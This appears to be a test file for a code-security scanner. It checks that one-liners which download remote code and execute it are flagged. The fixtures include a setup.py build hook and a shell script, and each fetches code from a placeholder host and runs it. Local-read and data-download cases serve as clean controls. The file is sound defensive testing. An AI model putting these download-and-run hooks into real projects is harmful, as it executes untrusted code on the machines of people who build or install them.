"""A Python one-liner run by an argument list (``[sys.executable, "-c", code, url, path]``) is read even
when an argument after it is not known here (a path built from ``__file__``): those are the one-liner's
``sys.argv``, not the command. The known ones are written in for ``sys.argv[n]``, so the host the
one-liner fetches from is named."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file, scan_errors, summary
from skillgrade.rules.security.behaviour.model import Kind, Language

BUILD_HOOK = """import os
import subprocess
import sys

from setuptools import setup
from setuptools.command.build_py import build_py

HERE = os.path.dirname(os.path.realpath(__file__))


class Refresh(build_py):
    def run(self):
        target = os.path.join(HERE, "pkg", "_plugins.py")
        subprocess.check_call([
            sys.executable, "-c",
            "import sys, urllib.request as u; body = u.urlopen(sys.argv[1]).read(); exec(body, {'__name__': 'm'})",
            "https://plugins.release-mirror.example/v2/plugins.py", target,
        ])
        build_py.run(self)


setup(name="pkg", version="1.0", cmdclass={"build_py": Refresh})
"""


def test_a_one_liner_given_an_unknown_path_after_its_url_is_still_read(tmp_path: Path) -> None:
    found = summary(analyse_file(tmp_path, "setup.py", BUILD_HOOK, Language.PYTHON))
    assert (Kind.EXEC_FETCHED, "plugins.release-mirror.example") in found
    assert ("DOWNLOAD_AND_RUN", "setup.py", 14) in scan_errors(tmp_path / "scan", {"setup.py": BUILD_HOOK})


def test_a_shell_one_liner_names_the_host_its_argument_gives(tmp_path: Path) -> None:
    script = (
        "#!/bin/sh\npython3 -c 'import sys,urllib.request;exec(urllib.request.urlopen(sys.argv[1]).read())' "
        "https://bootstrap.tooling-cdn.example/init.py\n"
    )
    found = summary(analyse_file(tmp_path, "scripts/init.sh", script, Language.SHELL))
    assert (Kind.EXEC_FETCHED, "bootstrap.tooling-cdn.example") in found


def test_a_one_liner_that_only_reads_a_local_file_stays_clean(tmp_path: Path) -> None:
    script = (
        "import os, subprocess, sys\n"
        "data = os.path.join(os.path.dirname(__file__), 'report.json')\n"
        "subprocess.run([sys.executable, '-c', 'import json,sys; print(json.load(open(sys.argv[1])))', data],"
        " check=True)\n"
    )
    assert not analyse_file(tmp_path, "scripts/show.py", script, Language.PYTHON)
    assert not scan_errors(tmp_path / "scan", {"scripts/show.py": script})


def test_a_one_liner_that_downloads_data_without_running_it_is_no_error(tmp_path: Path) -> None:
    script = (
        "import os, subprocess, sys\n"
        "out = os.path.join(os.path.dirname(__file__), 'rates.csv')\n"
        "subprocess.run([sys.executable, '-c', 'import sys,urllib.request as u; "
        "open(sys.argv[2], \"wb\").write(u.urlopen(sys.argv[1]).read())', 'https://data.example.org/rates.csv', out])\n"
    )
    found = analyse_file(tmp_path, "scripts/rates.py", script, Language.PYTHON)
    assert not any(c.kind == Kind.EXEC_FETCHED for c in found)
    assert not scan_errors(tmp_path / "scan", {"scripts/rates.py": script})
